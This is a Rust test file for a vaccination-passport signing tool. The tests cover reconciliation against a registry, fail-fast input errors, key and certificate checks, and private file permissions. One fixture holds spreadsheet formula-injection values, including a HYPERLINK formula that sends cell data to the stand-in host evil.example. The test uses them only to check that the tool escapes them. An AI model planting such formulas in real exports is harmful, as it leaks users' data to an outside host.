//! `vaxpass sign`: outputs, reconciliation, and the errors that stop a batch before anything
//! is signed.

use std::path::{Path, PathBuf};

use crate::util::{KEYS_EXAMPLE_NOW, Vaxpass, keys_example, rfc3339, tempdir};

const REGISTRY: &str = "id_number,old_id,full_name,dob,sex
001090000123,012345678,Nguyễn Văn An,1990-05-02,M
001185000456,,Trần Thị Bình,1985,F
";

const DOSES: &str =
    "record_id,facility_code,id_number,full_name,dob,sex,nationality,phone,vaccine,lot,dose_number,vaccination_date
R1,01001,001090000123,Nguyen Van An,02/05/1990,Nam,,0912345678,AstraZeneca,A1,1,01/07/2021
R2,01001,012345678,NGUYỄN VĂN AN,2/5/1990,nam,VN,,Astra Zeneca,A2,2,2021-09-20
R3,01001,001185000456,Trần Thị Bình,01/01/1985,Nữ,,,Pfizer,,,2021-08-01
R4,01001,001185000456,Trần Bảo Ngọc,01/01/2016,Nữ,,,Pfizer,,,2021-12-01
R5,01001,001090000123,Nguyễn Văn An,02/05/1990,M,,,AstraZeneca,,,2021-07-01
R6,01001,M1234567,John Smith,1980-01-01,male,US,,Moderna,,,2021-10-01
";

/// Writes a small registry and batch into `dir/data`, returning that directory.
pub fn small_batch(dir: &Path) -> PathBuf {
    let data = dir.join("data");
    std::fs::create_dir_all(&data).unwrap();
    std::fs::write(data.join("registry.csv"), REGISTRY).unwrap();
    std::fs::write(data.join("doses.csv"), DOSES).unwrap();
    data
}

/// `--key`/`--cert` of the development facility 01001.
pub fn facility_args() -> Vec<PathBuf> {
    let f = keys_example().join("facility-01001");
    vec!["--key".into(), f.join("key.pem"), "--cert".into(), f.join("cert.pem")]
}

/// `vaxpass sign` with `key`/`cert` over `doses`, into `out`, database `db`, secret `secret`,
/// at [`KEYS_EXAMPLE_NOW`].
pub fn sign_cmd(key: &Path, cert: &Path, doses: &Path, out: &Path, db: &str, secret: &Path) -> Vaxpass {
    Vaxpass::new(["sign", "--at", &rfc3339(KEYS_EXAMPLE_NOW), "--key"])
        .arg(key)
        .arg("--cert")
        .arg(cert)
        .arg("--input")
        .arg(doses)
        .arg("--out")
        .arg(out)
        .arg("--db")
        .arg(db)
        .arg("--secret")
        .arg(secret)
}

/// `vaxpass sign --json` with the development facility 01001 over `data/doses.csv` and
/// `data/registry.csv` (as written by `small_batch` or `vaxpass gen`).
pub fn sign_data(data: &Path, out: &Path, db: &str, secret: &Path) -> Vaxpass {
    let f = keys_example().join("facility-01001");
    sign_cmd(&f.join("key.pem"), &f.join("cert.pem"), &data.join("doses.csv"), out, db, secret)
        .arg("--registry")
        .arg(data.join("registry.csv"))
        .arg("--json")
}

/// SQLite `v.db` in `dir`.
pub fn sqlite_in(dir: &Path) -> String {
    format!("sqlite://{}", dir.join("v.db").display())
}

/// `sign_cmd` for facility 01001 with outputs, database and secret in `dir`.
fn sign(dir: &Path, doses: &Path, registry: Option<&Path>) -> Vaxpass {
    let f = keys_example().join("facility-01001");
    let v = sign_cmd(
        &f.join("key.pem"),
        &f.join("cert.pem"),
        doses,
        &dir.join("out"),
        &sqlite_in(dir),
        &dir.join("secret"),
    );
    match registry {
        Some(r) => v.arg("--registry").arg(r),
        None => v,
    }
}

#[test]
fn batch_writes_three_reconciled_outputs() {
    let dir = tempdir();
    let data = small_batch(dir.path());
    let out = sign(dir.path(), &data.join("doses.csv"), Some(&data.join("registry.csv"))).arg("--json").succeeds();
    let summary: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(summary["input_rows"], 6);
    assert_eq!(summary["signed_rows"], 4);
    assert_eq!(summary["rejected_rows"], 2);
    assert_eq!(summary["passports"], 3);
    assert_eq!(summary["by_reason"], serde_json::json!({"ID_INCONSISTENT": 1, "DUPLICATE_DOSE": 1}));
    let on_disk: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("out/summary.json")).unwrap()).unwrap();
    assert_eq!(on_disk, summary);

    let rejected = std::fs::read_to_string(dir.path().join("out/rejected.csv")).unwrap();
    let mut lines = rejected.lines();
    assert_eq!(lines.next(), Some("record_id,reason,detail,suggestion"));
    let mut rows: Vec<String> = lines.map(|l| l.split(',').take(2).collect::<Vec<_>>().join(",")).collect();
    rows.sort();
    assert_eq!(rows, ["R4,ID_INCONSISTENT", "R5,DUPLICATE_DOSE"]);

    let passports = std::fs::read_to_string(dir.path().join("out/passports.jsonl")).unwrap();
    let parsed: Vec<serde_json::Value> = passports.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(parsed.len(), 3);
    for p in &parsed {
        let keys: Vec<&str> = p.as_object().unwrap().keys().map(String::as_str).collect();
        assert_eq!(keys.len(), 6, "{keys:?}");
        for k in ["uvci", "id_number", "record_ids", "hc1", "kid", "claim_code"] {
            assert!(p.get(k).is_some(), "{k}");
        }
    }
    let an = parsed.iter().find(|p| p["id_number"] == "001090000123").unwrap();
    assert_eq!(an["record_ids"], serde_json::json!(["R1", "R2"]));
    let verdict = Vaxpass::new(["verify", "--json", "--at", &rfc3339(KEYS_EXAMPLE_NOW + 60), "--trust"])
        .arg(keys_example())
        .arg(an["hc1"].as_str().unwrap())
        .verdict();
    assert_eq!(verdict["reason"], "OK");
    assert_eq!(verdict["payload"]["nam"]["fn"], "Nguyễn");
    // The deployment secret was created private.
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = std::fs::metadata(dir.path().join("secret")).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }
}

#[test]
fn empty_input_gives_empty_valid_outputs() {
    let dir = tempdir();
    let doses = dir.path().join("doses.csv");
    std::fs::write(&doses, DOSES.lines().next().unwrap()).unwrap();
    let out = sign(dir.path(), &doses, None).arg("--json").succeeds();
    let s: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(
        s,
        serde_json::json!({"input_rows": 0, "signed_rows": 0, "rejected_rows": 0, "passports": 0, "by_reason": {}, "revoked": 0, "superseded": 0})
    );
    assert_eq!(std::fs::read_to_string(dir.path().join("out/passports.jsonl")).unwrap(), "");
}

#[test]
fn missing_columns_fail_fast_with_one_line() {
    let dir = tempdir();
    let doses = dir.path().join("doses.csv");
    std::fs::write(&doses, "record_id,full_name\nR1,An\n").unwrap();
    let err = sign(dir.path(), &doses, None).fails();
    assert!(err.contains("missing required column(s): facility_code, dob, sex, vaccine, vaccination_date"), "{err}");
    assert!(!dir.path().join("out/passports.jsonl").exists());
}

#[test]
fn non_utf8_file_fails_fast() {
    let dir = tempdir();
    let doses = dir.path().join("doses.csv");
    std::fs::write(&doses, b"record_id,facility_code,full_name,dob,sex,vaccine,vaccination_date,h\xe0\n").unwrap();
    let err = sign(dir.path(), &doses, None).fails();
    assert!(err.contains("not UTF-8"), "{err}");
}

#[test]
fn a_doses_file_given_as_registry_fails_fast() {
    let dir = tempdir();
    let data = small_batch(dir.path());
    let err = sign(dir.path(), &data.join("doses.csv"), Some(&data.join("doses.csv"))).fails();
    assert!(err.contains("not a registry extract"), "{err}");
}

#[test]
fn key_that_does_not_match_the_certificate_is_refused_before_signing() {
    let dir = tempdir();
    let data = small_batch(dir.path());
    let d = dir.path();
    let err = sign_cmd(
        &keys_example().join("facility-01100/key.pem"),
        &keys_example().join("facility-01001/cert.pem"),
        &data.join("doses.csv"),
        &d.join("out"),
        &sqlite_in(d),
        &d.join("secret"),
    )
    .fails();
    assert!(err.contains("does not match the certificate"), "{err}");
    assert!(!dir.path().join("v.db").exists(), "nothing may be written");
}

#[test]
fn expired_facility_certificate_is_refused_before_signing() {
    let dir = tempdir();
    let data = small_batch(dir.path());
    let ca = vaxpass::pki::CaFiles::load(&keys_example().join("ca-01/key.pem"), &keys_example().join("ca-01/cert.pem"))
        .unwrap();
    // Issued and expired before "now", but within the CA's validity would be ideal; the CA
    // is young, so issue at its notBefore with a one-day life and sign two days later.
    let ca_start = ca.certificate().validity.unwrap().0;
    let issued_at = time::OffsetDateTime::from_unix_timestamp(ca_start + 3600).unwrap();
    let expired = vaxpass::pki::issue_facility(&ca, "01002", "Trạm Y tế cũ", 1, issued_at).unwrap();
    let fdir = dir.path().join("expired");
    vaxpass::pki::write_issued(&fdir, &expired).unwrap();
    // sign_cmd signs at KEYS_EXAMPLE_NOW, half a year after the CA's start.
    assert!(KEYS_EXAMPLE_NOW > ca_start + 3 * 86_400);
    let d = dir.path();
    let err = sign_cmd(
        &fdir.join("key.pem"),
        &fdir.join("cert.pem"),
        &data.join("doses.csv"),
        &d.join("out"),
        &sqlite_in(d),
        &d.join("secret"),
    )
    .fails();
    assert!(err.contains("expired"), "{err}");
}

/// Rows whose record ids and registry values a spreadsheet would run as formulas: each is
/// rejected, so that its cells reach `rejected.csv`.
const FORMULA_DOSES: &str =
    "record_id,facility_code,id_number,full_name,dob,sex,nationality,phone,vaccine,lot,dose_number,vaccination_date
\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Bấm vào đây\"\")\",01001,001090000123,Nguyễn Văn Ân,02/05/1990,Nam,,,Pfizer,,,2021-08-01
+1,01001,001090000123,Nguyễn Văn An,02/05/1990,Nam,,,Nanocovax,,,2021-08-01
-5,01001,001090000123,Nguyễn Văn An,02/05/1990,Nam,,,Nanocovax,,,2021-08-01
@SUM(A1),01001,001090000123,Nguyễn Văn An,02/05/1990,Nam,,,Nanocovax,,,2021-08-01
'x,01001,001090000123,Nguyễn Văn An,02/05/1990,Nam,,,Nanocovax,,,2021-08-01
R6,01001,001090000123,Nguyễn Văn An,02/05/1990,Nam,,,Nanocovax,,,2021-08-01
";

// Issue #8, item 8: https://github.com/vaxpass/vaxpass/issues/8
#[test]
fn rejected_csv_cells_never_start_a_formula() {
    let dir = tempdir();
    let data = small_batch(dir.path());
    std::fs::write(data.join("doses.csv"), FORMULA_DOSES).unwrap();
    sign(dir.path(), &data.join("doses.csv"), Some(&data.join("registry.csv"))).arg("--json").succeeds();
    let text = std::fs::read_to_string(dir.path().join("out/rejected.csv")).unwrap();
    let mut rows: Vec<Vec<String>> = csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    rows.sort();
    let ids: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(
        ids,
        ["''x", "'+1", "'-5", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")", "'@SUM(A1)", "R6"]
    );
    for row in &rows {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} in {row:?}");
        }
    }
    let name_mismatch = rows.iter().find(|r| r[1] == "NAME_MISMATCH").unwrap();
    assert_eq!(name_mismatch[3], "Nguyễn Văn An");
}

/// Runs `vaxpass ARGS` under `umask 022`, the usual default that made outputs 0644.
#[cfg(unix)]
fn under_umask_022(args: &[&std::ffi::OsStr]) -> std::process::Output {
    std::process::Command::new("sh")
        .arg("-c")
        .arg("umask 022; exec \"$0\" \"$@\"")
        .arg(env!("CARGO_BIN_EXE_vaxpass"))
        .args(args)
        .current_dir(crate::util::repo())
        .output()
        .unwrap()
}

#[cfg(unix)]
#[track_caller]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::metadata(path).unwrap_or_else(|e| panic!("{}: {e}", path.display())).permissions().mode() & 0o777
}

// Issue #8, item 12: https://github.com/vaxpass/vaxpass/issues/8
#[cfg(unix)]
#[test]
fn outputs_database_and_qr_images_are_private_under_umask_022() {
    let dir = tempdir();
    let d = dir.path();
    let data = small_batch(d);
    let f = keys_example().join("facility-01001");
    let db = sqlite_in(d);
    let args: Vec<std::ffi::OsString> = vec![
        "sign".into(),
        "--at".into(),
        rfc3339(KEYS_EXAMPLE_NOW).into(),
        "--key".into(),
        f.join("key.pem").into(),
        "--cert".into(),
        f.join("cert.pem").into(),
        "--input".into(),
        data.join("doses.csv").into(),
        "--registry".into(),
        data.join("registry.csv").into(),
        "--out".into(),
        d.join("out").into(),
        "--db".into(),
        db.into(),
        "--secret".into(),
        d.join("secret").into(),
        "--qr".into(),
        "svg".into(),
    ];
    let args: Vec<&std::ffi::OsStr> = args.iter().map(|a| a.as_os_str()).collect();
    // A stale partial output from a killed run, world-readable: it must be narrowed too.
    std::fs::create_dir_all(d.join("out")).unwrap();
    std::fs::write(d.join("out/.rejected.csv.partial"), "old").unwrap();
    let out = under_umask_022(&args);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    for name in ["passports.jsonl", "rejected.csv", "summary.json"] {
        assert_eq!(mode(&d.join("out").join(name)), 0o600, "{name}");
    }
    let images: Vec<PathBuf> = std::fs::read_dir(d.join("out/qr")).unwrap().map(|e| e.unwrap().path()).collect();
    assert_eq!(images.len(), 3);
    for image in &images {
        assert_eq!(mode(image), 0o600, "{}", image.display());
    }
    assert_eq!(mode(&d.join("v.db")), 0o600);
    for side in ["v.db-wal", "v.db-shm"] {
        if d.join(side).exists() {
            assert_eq!(mode(&d.join(side)), 0o600, "{side}");
        }
    }
    assert_eq!(mode(&d.join("secret")), 0o600);

    // A deployment secret that others can read is refused, naming the fix.
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(d.join("secret"), std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = under_umask_022(&args);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("the deployment secret has mode 644: group or others can use it; run `chmod 600` on it"),
        "{err}"
    );
}
